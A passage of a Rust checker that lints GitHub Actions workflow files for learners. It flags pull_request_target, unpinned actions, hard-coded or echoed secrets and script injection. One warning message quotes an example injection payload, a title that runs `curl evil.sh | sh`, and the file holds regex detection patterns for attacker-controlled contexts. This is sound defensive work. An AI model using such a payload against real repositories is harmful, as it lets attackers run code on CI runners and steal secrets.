//! Checker for the `github-actions` kind: one workflow file under `.github/workflows/`.
//!
//! The file is parsed with serde-saphyr into a [`yaml::Node`] tree that keeps every
//! node's position, read with YAML 1.2 booleans so the key `on:` stays the string "on"
//! (YAML 1.1 would read it as `true`). The general rules are what a reviewer flags in
//! any workflow: missing triggers or jobs, malformed steps, unpinned or unversioned
//! actions, risky triggers and permissions, secrets in the file or in the log, and
//! script injection from pull request text.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::LazyLock;

use regex::Regex;
use serde::Deserialize;

use self::yaml::{Node, Value};
use super::{Diagnostic, SourceFile};

/// Per-exercise requirements from `exercise.toml`. Every field is optional; an empty
/// list or `false` checks nothing.
#[derive(Debug, Clone, Default, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Requirements {
    /// Events that must trigger the workflow, e.g. `["pull_request", "push"]`.
    #[serde(default)]
    pub triggers: Vec<String>,
    /// Branches whose pushes must run the workflow, e.g. `["main"]`: `on.push` must be
    /// present and its `branches` / `branches-ignore` filters must let these through.
    #[serde(default)]
    pub push_branches: Vec<String>,
    /// Target branches whose pull requests must run the workflow, e.g. `["main"]`:
    /// `on.pull_request` must be present and its branch filters must let these through.
    #[serde(default)]
    pub pull_request_branches: Vec<String>,
    /// Job ids that must exist under `jobs:`, e.g. `["test"]`.
    #[serde(default)]
    pub jobs: Vec<String>,
    /// Commands some step's `run:` must run, e.g. `["pytest"]`. A command counts when it
    /// starts a line or follows `&&`, `||`, `;` or `|` (also behind `python -m`, `uv run`,
    /// `npx` and similar), so `pip install pytest` does not count as running pytest.
    #[serde(default)]
    pub run_commands: Vec<String>,
    /// Actions some step must use, by `owner/repo` without the version, e.g.
    /// `["actions/checkout", "actions/setup-python"]`.
    #[serde(default)]
    pub uses_actions: Vec<String>,
    /// Pairs `[first, then]`: the job `then` must wait for the job `first` through
    /// `needs` (directly or through other jobs), e.g. `[["build", "test"]]`.
    #[serde(default)]
    pub job_order: Vec<[String; 2]>,
    /// `true`: some job must use `strategy.matrix`.
    #[serde(default)]
    pub matrix: bool,
    /// `true`: dependencies must be cached, with `actions/cache` or a setup action's
    /// `cache:` input (e.g. `actions/setup-python` with `cache: pip`).
    #[serde(default)]
    pub cache: bool,
    /// `true`: `permissions:` must be set at the workflow level (or on every job), and
    /// not to `write-all`. Replaces the general `no-permissions` warning with an error.
    #[serde(default)]
    pub permissions: bool,
    /// `true`: every secret-looking `env:` variable or `with:` input (a name with
    /// PASSWORD, TOKEN, SECRET, KEY…) must take its value from `${{ secrets.NAME }}`
    /// (or `github.token`), not from a literal, `vars` or another expression.
    #[serde(default)]
    pub secrets_only_via_context: bool,
}

/// Every event a workflow can be triggered by.
const EVENTS: &[&str] = &[
    "branch_protection_rule",
    "check_run",
    "check_suite",
    "create",
    "delete",
    "deployment",
    "deployment_status",
    "discussion",
    "discussion_comment",
    "fork",
    "gollum",
    "image_version",
    "issue_comment",
    "issues",
    "label",
    "merge_group",
    "milestone",
    "page_build",
    "project",
    "project_card",
    "project_column",
    "public",
    "pull_request",
    "pull_request_comment",
    "pull_request_review",
    "pull_request_review_comment",
    "pull_request_target",
    "push",
    "registry_package",
    "release",
    "repository_dispatch",
    "schedule",
    "status",
    "watch",
    "workflow_call",
    "workflow_dispatch",
    "workflow_run",
];

/// First-party actions whose old majors ran on a Node.js runtime GitHub has retired:
/// (action, oldest acceptable major, current major when known).
const OUTDATED: &[(&str, u32, Option<&str>)] = &[
    ("actions/checkout", 4, Some("v7")),
    ("actions/setup-python", 5, Some("v7")),
    ("actions/setup-node", 4, Some("v6")),
    ("actions/cache", 4, Some("v5")),
    ("actions/upload-artifact", 4, None),
    ("actions/download-artifact", 4, None),
    ("actions/setup-java", 4, None),
    ("actions/setup-go", 5, None),
];

/// Workflow keys a learner might write instead of `on`.
const ON_LOOKALIKES: &[&str] = &[
    "On", "ON", "true", "True", "trigger", "triggers", "events", "when",
];

static EXPRESSION: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?s)\$\{\{(.*?)\}\}").expect("a constant, valid regex"));

static SECRETS_EXPRESSION: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\$\{\{[^}]*\bsecrets\b").expect("a constant, valid regex"));

static PRINTS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:^|[\s;&|(])(?:echo|printf)\b").expect("a constant, valid regex")
});

/// Contexts anyone who opens a pull request, issue or comment can write.
static UNTRUSTED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"github\.head_ref",
        r"|github\.event\.(?:pull_request|issue|discussion)\.(?:title|body)",
        r"|github\.event\.pull_request\.head\.(?:ref|label|repo\.default_branch)",
        r"|github\.event\.(?:comment|review|review_comment)\.body",
        r"|github\.event\.head_commit\.(?:message|author\.(?:email|name))",
        r"|github\.event\.commits(?:\[[^\]]*\]|\.\*)?\.(?:message|author\.(?:email|name))",
        r"|github\.event\.pages(?:\[[^\]]*\]|\.\*)?\.page_name",
        r"|github\.event\.workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name)))",
    ))
    .expect("a constant, valid regex")
});

static FULL_SHA: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^[0-9a-fA-F]{40}$").expect("a constant, valid regex"));

static JOB_ID: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^[A-Za-z_][A-Za-z0-9_-]*$").expect("a constant, valid regex"));

/// Applies the general rules of this kind and `req` to `files`.
pub fn check(files: &[SourceFile], req: &Requirements) -> Vec<Diagnostic> {
    let mut out = Vec::new();
    for file in files {
        let mut cx = Cx {
            file: &file.path,
            text: &file.text,
            out: &mut out,
            counts: BTreeMap::new(),
        };
        check_file(&mut cx, req);
    }
    out
}

/// Where diagnostics go, with the file they concern.
struct Cx<'a> {
    file: &'a str,
    text: &'a str,
    out: &'a mut Vec<Diagnostic>,
    /// Diagnostics per rule so far: past [`MAX_PER_RULE`] the rest are dropped.
    counts: BTreeMap<String, usize>,
}

/// More findings of one rule in one file than this teach nothing new.
const MAX_PER_RULE: usize = 50;

impl Cx<'_> {
    /// Whether `rule` may still report: callers skip costly work (suggestions) when not.
    fn room(&self, rule: &str) -> bool {
        self.counts.get(rule).is_none_or(|n| *n < MAX_PER_RULE)
    }

    fn error(&mut self, rule: &str, (line, column): (usize, usize), message: impl Into<String>) {
        if !self.room(rule) {
            return;
        }
        *self.counts.entry(rule.to_string()).or_default() += 1;
        self.out.push(Diagnostic::error(
            &format!("github-actions/{rule}"),
            self.file,
            line,
            column,
            message,
        ));
    }

    fn warning(&mut self, rule: &str, (line, column): (usize, usize), message: impl Into<String>) {
        if !self.room(rule) {
            return;
        }
        *self.counts.entry(rule.to_string()).or_default() += 1;
        self.out.push(Diagnostic::warning(
            &format!("github-actions/{rule}"),
            self.file,
            line,
            column,
            message,
        ));
    }
}

/// One event under `on:`.
struct Trigger<'a> {
    name: String,
    at: &'a Node,
    config: Option<&'a Node>,
}

/// One job under `jobs:`.
struct Job<'a> {
    id: String,
    key: &'a Node,
    body: &'a Node,
}

fn check_file(cx: &mut Cx<'_>, req: &Requirements) {
    let root = match yaml::parse(cx.text) {
        Ok(root) => root,
        Err(e) => {
            cx.error("syntax", (e.line, e.column), e.explain());
            return;
        }
    };
    if matches!(root.value, Value::Null) {
        cx.error(
            "empty",
            (0, 0),
            "the workflow file is empty: a workflow needs `on:` (the events that start it) and `jobs:` (what it runs)",
        );
        return;
    }
    if root.map().is_none() {
        cx.error(
            "shape",
            root.at(),
            format!(
                "the top level of a workflow must be a mapping with keys such as `on:` and `jobs:`, but this file starts with {}",
                root.describe()
            ),
        );
        return;
    }

    let triggers = read_triggers(cx, &root);
    let jobs = read_jobs(cx, &root);
    let service_values = service_env_values(&jobs, cx.text);

    if let Some(env) = root.get("env") {
        check_env(cx, env, &service_values, req);
    }
    check_permissions(cx, &root, &jobs, req);
    let ids: BTreeSet<&str> = jobs.iter().map(|j| j.id.as_str()).collect();
    for job in &jobs {
        check_job(cx, job, &ids, &service_values, req);
    }
    check_requirements(cx, &root, &triggers, &jobs, req);
}

fn read_triggers<'a>(cx: &mut Cx<'_>, root: &'a Node) -> Vec<Trigger<'a>> {
    let Some((on_key, on)) = root.entry("on") else {
        let lookalike = root.map().unwrap_or_default().iter().find(|(k, _)| {
            k.text(cx.text)
                .is_some_and(|t| ON_LOOKALIKES.contains(&t.as_str()))
        });
        match lookalike {
            Some((k, _)) => {
                let name = k.text(cx.text).unwrap_or_default();
                cx.error(
                    "no-trigger",
                    k.at(),
                    format!(
                        "GitHub does not know the key `{name}:`, so this workflow has no trigger and never runs: name the events under a lowercase `on:` key"
                    ),
                );
            }
            None => cx.error(
                "no-trigger",
                (0, 0),
                "the workflow has no `on:` key, so nothing ever starts it: add e.g. `on: [push, pull_request]`",
            ),
        }
        return Vec::new();
    };
    let mut triggers = Vec::new();
    match &on.value {
        Value::Str(name) => triggers.push(Trigger {
            name: name.clone(),
            at: on,
            config: None,
        }),
        Value::Seq(items) => {
            for item in items {
                match &item.value {
                    Value::Str(name) => triggers.push(Trigger { name: name.clone(), at: item, config: None }),
                    _ => cx.error(
                        "shape",
                        item.at(),
                        format!("each entry of the `on:` list must be an event name such as `push`, not {}", item.describe()),
                    ),
                }
            }
        }
        Value::Map(entries) => {
            for (k, v) in entries {
                match k.text(cx.text) {
                    Some(name) => triggers.push(Trigger {
                        name,
                        at: k,
                        config: Some(v),
                    }),
                    None => cx.error(
                        "shape",
                        k.at(),
                        "each key under `on:` must be an event name such as `push`",
                    ),
                }
            }
        }
        Value::Null => {}
        _ => cx.error(
            "shape",
            on.at(),
            format!(
                "`on:` must name events (`on: push`, a list, or a mapping of events), not {}",
                on.describe()
            ),
        ),
    }
    if triggers.is_empty() && matches!(on.value, Value::Null | Value::Seq(_) | Value::Map(_)) {
        cx.error(
            "no-trigger",
            on_key.at(),
            "`on:` lists no event, so nothing ever starts this workflow: add e.g. `pull_request` and `push`",
        );
    }
    for t in &triggers {
        if !EVENTS.contains(&t.name.as_str()) {
            let hint = yaml::closest(&t.name, EVENTS)
                .map(|c| format!(" Did you mean `{c}`?"))
                .unwrap_or_default();
            cx.error(
                "unknown-event",
                t.at.at(),
                format!(
                    "`{}` is not an event GitHub Actions knows, so it rejects the workflow.{hint}",
                    t.name
                ),
            );
        }
        if t.name == "pull_request_target" {
            cx.warning(
                "pull-request-target",
                t.at.at(),
                "`pull_request_target` runs with your repository's secrets and a write token even for pull requests from forks; if a job checks out and runs the pull request's code, anyone can steal them. Use `pull_request` to test contributions",
            );
        }
    }
    triggers
}

fn read_jobs<'a>(cx: &mut Cx<'_>, root: &'a Node) -> Vec<Job<'a>> {
    let Some((jobs_key, jobs)) = root.entry("jobs") else {
        cx.error(
            "no-jobs",
            (0, 0),
            "the workflow has no `jobs:` key, so it has nothing to run: add a job with `runs-on:` and `steps:`",
        );
        return Vec::new();
    };
    let entries = match &jobs.value {
        Value::Map(entries) => entries.as_slice(),
        Value::Null => &[],
        _ => {
            cx.error(
                "shape",
                jobs.at(),
                format!("`jobs:` must be a mapping from job ids to jobs (e.g. `test:` with `runs-on:` and `steps:`), not {}", jobs.describe()),
            );
            return Vec::new();
        }
    };
    if entries.is_empty() {
        cx.error(
            "no-jobs",
            jobs_key.at(),
            "`jobs:` is empty: add a job with `runs-on:` and `steps:`",
        );
    }
    let mut out = Vec::new();
    for (k, v) in entries {
        let Some(id) = k.text(cx.text) else {
            cx.error("shape", k.at(), "a job id must be a name such as `test`");
            continue;
        };
        if !JOB_ID.is_match(&id) {
            cx.error(
                "invalid-job-id",
                k.at(),
                format!("`{id}` is not a valid job id: start with a letter or `_` and use only letters, digits, `-` and `_` (put a readable title in `name:`)"),
            );
        }
        if v.map().is_none() {
            cx.error(
                "shape",
                v.at(),
                format!(
                    "the job `{id}` must be a mapping with `runs-on:` and `steps:`, not {}",
                    v.describe()
                ),
            );
            continue;
        }
        out.push(Job {
            id,
            key: k,
            body: v,
        });
    }
    out
}

/// Literal values given to service containers (`jobs.*.services.*.env`): a password
/// for a throwaway test database is not a secret when the job uses it to connect.
fn service_env_values(jobs: &[Job<'_>], text: &str) -> BTreeSet<String> {
    let mut values = BTreeSet::new();
    for job in jobs {
        let services = job
            .body
            .get("services")
            .and_then(Node::map)
            .unwrap_or_default();
        for (_, service) in services {
            let env = service.get("env").and_then(Node::map).unwrap_or_default();
            for (_, v) in env {
                if let Some(t) = v.text(text) {
                    values.insert(t);
                }
            }
        }
    }
    values
}

/// Whether an environment variable or input name says it holds a credential.
pub(crate) fn looks_secret(name: &str) -> bool {
    const NOT_SECRET_SUFFIXES: &[&str] = &[
        "URL",
        "URI",
        "FILE",
        "FILENAME",
        "PATH",
        "DIR",
        "NAME",
        "ID",
        "HOST",
        "PORT",
        "USER",
        "USERNAME",
        "TYPE",
        "LENGTH",
        "SIZE",
        "ENDPOINT",
        "REGION",
        "FORMAT",
        "HEADER",
        "COUNT",
        "ENABLED",
        "DISABLED",
        "TTL",
        "VERSION",
        "EXPIRY",
        "MODE",
        "LEVEL",
        "SCOPE",
        "PATHS",
        "METHOD",
        "ALGORITHM",
    ];
    let upper = name.to_ascii_uppercase();
    // `key:` of actions/cache, cache keys, public keys, and GitLab's secret-detection
    // settings name things that are not credentials.
    if upper == "KEY" || upper.contains("CACHE") || upper.starts_with("SECRET_DETECTION") {
        return false;
    }
    let parts: Vec<&str> = upper
        .split(['_', '-', '.'])
        .filter(|p| !p.is_empty())
        .collect();
    let Some(last) = parts.last() else {
        return false;
    };
    if (parts.len() > 1 && NOT_SECRET_SUFFIXES.contains(last)) || parts.contains(&"PUBLIC") {
        return false;
    }
    parts.iter().any(|p| {
        p.contains("PASSWORD")
            || p.contains("PASSWD")
            || p.contains("SECRET")
            || p.contains("TOKEN")
            || p.ends_with("KEY")
            || *p == "PASS"
            || *p == "CREDENTIALS"
            || *p == "CREDENTIAL"
            || (*p == "PWD" && parts.len() > 1)
    })
}

/// Whether a literal value could be a credential: not empty and not a switch such as
/// `true` (`SECRET_SCANNING: "false"` holds no secret).
pub(crate) fn could_be_credential(value: &str) -> bool {
    let v = value.trim().to_ascii_lowercase();
    !v.is_empty() && !["true", "false", "yes", "no", "on", "off", "0", "1"].contains(&v.as_str())
}

/// Checks an `env:` mapping (workflow, job or step) for hard-coded credentials.
fn check_env(cx: &mut Cx<'_>, env: &Node, service_values: &BTreeSet<String>, req: &Requirements) {
    check_secret_entries(cx, env, "env", service_values, req);
}

/// Hard-coded credentials in `env:` or `with:` entries, and (with the requirement)
/// credentials not taken from the `secrets` context.
fn check_secret_entries(
    cx: &mut Cx<'_>,
    map: &Node,
    section: &str,
    service_values: &BTreeSet<String>,
    req: &Requirements,
) {
    let Some(entries) = map.map() else { return };
    for (k, v) in entries {
        let Some(name) = k.text(cx.text) else {
            continue;
        };
        if !looks_secret(&name) {
            continue;
        }
        let Some(value) = v.text(cx.text) else {
            continue;
        };
        if !could_be_credential(&value) {
            continue;
        }
        if !value.contains("${{") {
            if service_values.contains(&value) {
                continue;
            }
            let how = format!(
                "`{name}: ${{{{ secrets.{} }}}}`",
                name.to_ascii_uppercase().replace('-', "_")
            );
            cx.error(
                "hardcoded-secret",
                v.at(),
                format!(
                    "`{name}` is set to a literal value in `{section}:`, so the credential is in your repository for anyone who can read it (and in its history forever): store it as a repository secret (Settings → Secrets and variables → Actions) and write {how}"
                ),
            );
        } else if req.secrets_only_via_context && !from_secrets(&value) {
            cx.error(
                "require-secrets-via-context",
                v.at(),
                format!(
                    "`{name}` looks like a credential but does not come from the `secrets` context: store it as a repository secret and write `${{{{ secrets.NAME }}}}` (`vars` are not encrypted or masked in logs)"
                ),
            );
        }
    }
}

/// Whether an expression value comes from the `secrets` context or the job's token.
fn from_secrets(value: &str) -> bool {
    EXPRESSION.captures_iter(value).all(|c| {
        let inner = c.get(1).map_or("", |m| m.as_str()).trim();
        inner.starts_with("secrets.") || inner.starts_with("secrets[") || inner == "github.token"
    }) && EXPRESSION.is_match(value)
}

fn check_permissions(cx: &mut Cx<'_>, root: &Node, jobs: &[Job<'_>], req: &Requirements) {
    let top = root.get("permissions");
    for p in top
        .into_iter()
        .chain(jobs.iter().filter_map(|j| j.body.get("permissions")))
    {
        if p.str() == Some("write-all") {
            cx.warning(
                "broad-permissions",
                p.at(),
                "`permissions: write-all` lets every step push code, create releases and change settings with the job's token: grant only what the job needs, e.g. `contents: read`",
            );
        }
    }
    if top.is_some() || req.permissions {
        return;
    }
    let missing: Vec<&str> = jobs
        .iter()
        .filter(|j| j.body.get("permissions").is_none())
        .map(|j| j.id.as_str())
        .collect();
    if missing.is_empty() {
        return;
    }
    let at = root.entry("jobs").map_or((0, 0), |(k, _)| k.at());
    cx.warning(
        "no-permissions",
        at,
        format!(
            "no `permissions:` is set for {}, so the job token gets the repository's default, which may allow writing: add `permissions:` with `contents: read` at the top of the workflow and grant more only to jobs that need it",
            list_names(&missing, "job")
        ),
    );
}

fn check_job(
    cx: &mut Cx<'_>,
    job: &Job<'_>,
    ids: &BTreeSet<&str>,
    service_values: &BTreeSet<String>,
    req: &Requirements,
) {
    let id = &job.id;
    if let Some(env) = job.body.get("env") {
        check_env(cx, env, service_values, req);
    }
    if let Some(needs) = job.body.get("needs") {
        for (name, at) in string_list(needs, cx.text) {
            if !cx.room("unknown-need") {
                break;
            }
            if name == *id {
                cx.error("unknown-need", at.at(), format!("the job `{id}` needs itself, so it can never start: remove `{name}` from its `needs:`"));
            } else if !ids.contains(name.as_str()) {
                let ids: Vec<&str> = ids.iter().copied().collect();
                let hint = yaml::closest(&name, &ids)
                    .map(|c| format!(" Did you mean `{c}`?"))
                    .unwrap_or_default();
                cx.error(
                    "unknown-need",
                    at.at(),
                    format!("`needs: {name}` names no job in this workflow, so GitHub rejects it: use the id of a job under `jobs:`.{hint}"),
                );
            }
        }
    }
    // Registry logins of the job's container and service containers.
    let containers = job.body.get("container").into_iter().chain(
        job.body
            .get("services")
            .and_then(Node::map)
            .unwrap_or_default()
            .iter()
            .map(|(_, v)| v),
    );
    for container in containers {
        if let Some(credentials) = container.get("credentials") {
            check_secret_entries(cx, credentials, "credentials", &BTreeSet::new(), req);
        }
    }
    if let Some(matrix) = job.body.get("strategy").and_then(|s| s.get("matrix")) {
        check_version_numbers(cx, matrix, true);
    }
    if let Some(uses) = job.body.get("uses") {
        // A call to a reusable workflow: it brings its own runner and steps.
        check_uses(cx, uses);
        if let Some(with) = job.body.get("with") {
            check_secret_entries(cx, with, "with", service_values, req);
        }
        return;
    }
    if job.body.get("runs-on").is_none() {
        let hint = near_key(job.body, cx.text, "runs-on")
            .map(|k| format!(" (`{k}:` looks like a typo of it)"))
            .unwrap_or_default();
        cx.error(
            "job-runs-on",
            job.key.at(),
            format!("the job `{id}` has no `runs-on:`{hint}, so GitHub does not know which machine to run it on: add e.g. `runs-on: ubuntu-latest`"),
        );
    }
    let steps = match job.body.get("steps") {
        None => {
            let hint = near_key(job.body, cx.text, "steps")
                .map(|k| format!(" (`{k}:` looks like a typo of it)"))
                .unwrap_or_default();
            cx.error(
                "job-steps",
                job.key.at(),
                format!("the job `{id}` has no `steps:`{hint}, so it has nothing to do: add a list of steps, each with `uses:` or `run:`"),
            );
            return;
        }
        Some(steps) => steps,
    };
    let items = match &steps.value {
        Value::Seq(items) => items.as_slice(),
        Value::Null => &[],
        _ => {
            cx.error(
                "shape",
                steps.at(),
                format!(
                    "`steps:` must be a list (each step starts with `- `), not {}",
                    steps.describe()
                ),
            );
            return;
        }
    };
    if items.is_empty() {
        cx.error(
            "job-steps",
            job.key.at(),
            format!("the job `{id}` has an empty `steps:` list: add at least one step with `uses:` or `run:`"),
        );
    }
    for step in items {
        check_step(cx, step, service_values, req);
    }
}

fn check_step(cx: &mut Cx<'_>, step: &Node, service_values: &BTreeSet<String>, req: &Requirements) {
    if step.map().is_none() {
        cx.error(
            "shape",
            step.at(),
            format!(
                "each step must be a mapping with `uses:` or `run:` (e.g. `- run: pytest`), not {}",
                step.describe()
            ),
        );
        return;
    }
    let uses = step.get("uses");
    let run = step.entry("run");
    match (uses, run) {
        (Some(_), Some((run_key, _))) => cx.error(
            "step-uses-and-run",
            run_key.at(),
            "this step has both `uses:` and `run:`, but a step either runs an action or runs shell commands: split it into two steps",
        ),
        (None, None) => {
            let hint = near_key(step, cx.text, "run")
                .or_else(|| near_key(step, cx.text, "uses"))
                .map(|k| format!(" (`{k}:` looks like a typo)"))
                .unwrap_or_default();
            cx.error(
                "step-no-action",
                step.at(),
                format!("this step has neither `uses:` (an action) nor `run:` (shell commands){hint}, so GitHub rejects the workflow: add one of them"),
            );
        }
        _ => {}
    }
    if let Some(uses) = uses {
        check_uses(cx, uses);
    }
    if let Some((_, run)) = run {
        match &run.value {
            Value::Str(_) => check_run(cx, run),
            Value::Null => {}
            _ => cx.error(
                "shape",
                run.at(),
                format!("`run:` must be text, not {}; for several commands use a block: `run: |` followed by one command per line", run.describe()),
            ),
        }
    }
    if let Some(env) = step.get("env") {
        check_env(cx, env, service_values, req);
    }
    if let Some(with) = step.get("with") {
        check_secret_entries(cx, with, "with", service_values, req);
        check_version_numbers(cx, with, false);
        let github_script = uses
            .and_then(Node::str)
            .is_some_and(|u| u.to_ascii_lowercase().starts_with("actions/github-script"));
        if let Some(script) = with
            .get("script")
            .filter(|s| github_script && s.str().is_some())
        {
            check_injection(cx, script);
        }
    }
}

/// The `uses:` of a step or of a job calling a reusable workflow.
fn check_uses(cx: &mut Cx<'_>, uses: &Node) {
    let Some(spec) = uses.str() else {
        cx.error(
            "shape",
            uses.at(),
            format!(
                "`uses:` must be text such as `actions/checkout@v7`, not {}",
                uses.describe()
            ),
        );
        return;
    };
    let spec = spec.trim();
    if spec.starts_with("./") || spec.starts_with("docker://") || spec.contains("${{") {
        return;
    }
    let (name, reference) = match spec.split_once('@') {
        Some((n, r)) => (n, r.trim()),
        None => (spec, ""),
    };
    let owner = name
        .split('/')
        .next()
        .unwrap_or_default()
        .to_ascii_lowercase();
    let first_party = owner == "actions" || owner == "github";
    if reference.is_empty() {
        let example = if first_party {
            let current = OUTDATED
                .iter()
                .find(|(a, _, _)| a.eq_ignore_ascii_case(name))
                .and_then(|(_, _, c)| *c)
                .unwrap_or("v1");
            format!("`{name}@{current}`")
        } else {
            format!("`{name}@<full commit SHA>`")
        };
        cx.error(
            "action-no-version",
            uses.at(),
            format!("`{name}` has no version after `@`, so GitHub rejects the step: pin it, e.g. {example}"),
        );
        return;
    }
    if first_party {
        let outdated = OUTDATED
            .iter()
            .find(|(a, _, _)| a.eq_ignore_ascii_case(name));
        if let (Some((_, min, current)), Some(major)) = (outdated, major_version(reference))
            && major < *min
        {
            let update = current.map_or_else(
                || "update to the latest major version listed on the action's page".to_string(),
                |c| format!("update to `{name}@{c}`"),
            );
            cx.warning(
                "outdated-action",
                uses.at(),
                format!("`{name}@{reference}` is an old major version built for a Node.js runtime GitHub Actions has retired, so it warns or fails: {update}"),
            );
        }
        return;
    }
    if !FULL_SHA.is_match(reference) {
        cx.warning(
            "unpinned-action",
            uses.at(),
            format!(
                "`{name}@{reference}` is a third-party action pinned to a tag or branch, and whoever controls that repository can move the tag to new code that runs with your token and secrets (in March 2025 the tags of `tj-actions/changed-files` were moved to code that printed secrets into build logs): pin the full 40-character commit SHA and keep the tag as a comment, e.g. `{name}@<sha> # {reference}`"
            ),
        );
    }
}

/// The major version of a ref such as `v4`, `v4.1.0` or `4`.
fn major_version(reference: &str) -> Option<u32> {
    let digits: String = reference
        .strip_prefix('v')
        .unwrap_or(reference)
        .chars()
        .take_while(char::is_ascii_digit)
        .collect();
    if digits.is_empty() || digits.len() > 6 || FULL_SHA.is_match(reference) {
        return None;
    }
    digits.parse().ok()
}

/// Secrets printed to the log and untrusted text spliced into the script.
fn check_run(cx: &mut Cx<'_>, run: &Node) {
    let (src, base) = run.scalar_source(cx.text);
    let mut line_start = 0;
    for line in src.split_inclusive('\n') {
        for print in PRINTS.find_iter(line) {
            // What this echo prints: up to the next command on the line.
            let after = &line[print.end()..];
            let end = [";", "&&", "||"]
                .iter()
                .filter_map(|sep| after.find(sep))
                .min()
                .unwrap_or(after.len());
            let printed = &after[..end];
            if printed.contains('|') || printed.contains('>') || printed.contains("::add-mask::") {
                continue; // piped or redirected: not written to the log
            }
            if let Some(secret) = SECRETS_EXPRESSION.find(printed) {
                cx.error(
                    "secret-echo",
                    run.pos_at(cx.text, base, line_start + print.end() + secret.start()),
                    "this step prints a secret with `echo`/`printf`; GitHub's log masking only catches exact matches, so encoded or partial copies leak into logs anyone with read access can see: do not print secrets; pass them to the command that needs them through `env:`",
                );
            }
        }
        line_start += line.len();
    }
    check_injection(cx, run);
}

/// Untrusted text spliced into a script by `${{ }}` (a `run:` or github-script's `script:`).
fn check_injection(cx: &mut Cx<'_>, script: &Node) {
    let (src, base) = script.scalar_source(cx.text);
    for m in EXPRESSION.captures_iter(src) {
        let (Some(whole), Some(inner)) = (m.get(0), m.get(1)) else {
            continue;
        };
        if let Some(u) = UNTRUSTED.find(inner.as_str()) {
            cx.warning(
                "script-injection",
                script.pos_at(cx.text, base, whole.start()),
                format!(
                    "`{}` is text anyone opening a pull request or issue controls, and `${{{{ }}}}` pastes it into the script before the shell runs, so a title like `\"; curl evil.sh | sh; \"` runs as code: pass it through `env:` (e.g. `TITLE: ${{{{ {} }}}}`) and use `\"$TITLE\"` in the script",
                    u.as_str(),
                    u.as_str()
                ),
            );
        }
    }
}

/// Unquoted versions such as `3.10` that YAML reads as the number 3.1.
fn check_version_numbers(cx: &mut Cx<'_>, node: &Node, everything: bool) {
    match &node.value {
        Value::Map(entries) => {
            for (k, v) in entries {
                let key = k.text(cx.text).unwrap_or_default().to_ascii_lowercase();
                if everything || key.ends_with("version") {
                    match &v.value {
                        Value::Seq(_) | Value::Map(_) => check_version_numbers(cx, v, true),
                        _ => report_version_number(cx, v),
                    }
                }
            }
        }
        Value::Seq(items) => {
            for item in items {
                match &item.value {
                    Value::Seq(_) | Value::Map(_) => check_version_numbers(cx, item, everything),
                    _ => report_version_number(cx, item),
                }
            }
        }
        _ => {}
    }
}

fn report_version_number(cx: &mut Cx<'_>, v: &Node) {
    let (Some(raw), Value::Float(f)) = (v.float_losing_digits(cx.text), &v.value) else {
        return;
    };
    cx.error(
        "version-as-number",
        v.at(),
        format!("`{raw}` without quotes is the number {f} in YAML, so this asks for version {f}, not {raw}: quote it, `\"{raw}\"`"),
    );
}

fn check_requirements(
    cx: &mut Cx<'_>,
    root: &Node,
    triggers: &[Trigger<'_>],
    jobs: &[Job<'_>],
    req: &Requirements,
) {
    let on_at = root.entry("on").map_or((0, 0), |(k, _)| k.at());
    let jobs_at = root.entry("jobs").map_or((0, 0), |(k, _)| k.at());
    for wanted in &req.triggers {
        if !triggers.iter().any(|t| &t.name == wanted) {
            cx.error(
                "require-trigger",
                on_at,
                format!("the workflow does not run on `{wanted}`: add `{wanted}` under `on:`"),
            );
        }
    }
    for (event, branches) in [
        ("push", &req.push_branches),
        ("pull_request", &req.pull_request_branches),
    ] {
        for branch in branches {
            let rule = if event == "push" {
                "require-push-branch"
            } else {
                "require-pull-request-branch"
            };
            let what = if event == "push" {
                "pushes to"
            } else {
                "pull requests into"
            };
            match triggers.iter().find(|t| t.name == event) {
                None => cx.error(rule, on_at, format!("{what} `{branch}` do not run this workflow: add `{event}:` with `branches: [{branch}]` under `on:`")),
                Some(t) if !branch_triggers(t.config, branch, cx.text) => cx.error(
                    rule,
                    t.at.at(),
                    format!("the `{event}:` trigger's branch filter leaves out `{branch}`, so {what} it do not run this workflow: list `{branch}` under `branches:`"),
                ),
                Some(_) => {}
            }
        }
    }
    for wanted in &req.jobs {
        if !jobs.iter().any(|j| &j.id == wanted) {
            cx.error(
                "require-job",
                jobs_at,
                format!("the workflow has no job `{wanted}`: add it under `jobs:`"),
            );
        }
    }
    let steps: Vec<&Node> = jobs
        .iter()
        .filter_map(|j| j.body.get("steps").and_then(Node::seq))
        .flatten()
        .collect();
    for command in &req.run_commands {
        let found = steps
            .iter()
            .filter_map(|s| s.get("run").and_then(Node::str))
            .any(|script| yaml::runs_command(script, command));
        if !found {
            cx.error(
                "require-run-command",
                jobs_at,
                format!("no step runs `{command}`: add a step with `run: {command}` (installing it is not running it)"),
            );
        }
    }
    let used: Vec<String> = steps
        .iter()
        .filter_map(|s| s.get("uses").and_then(Node::str))
        .chain(
            jobs.iter()
                .filter_map(|j| j.body.get("uses").and_then(Node::str)),
        )
        .map(|u| {
            u.split('@')
                .next()
                .unwrap_or_default()
                .trim()
                .to_ascii_lowercase()
        })
        .collect();
    for wanted in &req.uses_actions {
        let w = wanted.trim().to_ascii_lowercase();
        if !used
            .iter()
            .any(|u| *u == w || u.starts_with(&format!("{w}/")))
        {
            cx.error(
                "require-action",
                jobs_at,
                format!("no step uses `{wanted}`: add a step with `uses: {wanted}@<version>`"),
            );
        }
    }
    for [first, then] in &req.job_order {
        let Some(job) = jobs.iter().find(|j| &j.id == then) else {
            cx.error("require-job-order", jobs_at, format!("the workflow needs a job `{then}` that runs after `{first}`: add it with `needs: {first}`"));
            continue;
        };
        if !needs_transitively(jobs, then, first, cx.text) {
            cx.error(
                "require-job-order",
                job.key.at(),
                format!("`{then}` must wait for `{first}`, but jobs run in parallel unless told otherwise: add `needs: {first}` to the `{then}` job"),
            );
        }
    }
    if req.matrix
        && !jobs.iter().any(|j| {
            j.body
                .get("strategy")
                .and_then(|s| s.get("matrix"))
                .is_some()
        })
    {
        cx.error(
            "require-matrix",
            jobs_at,
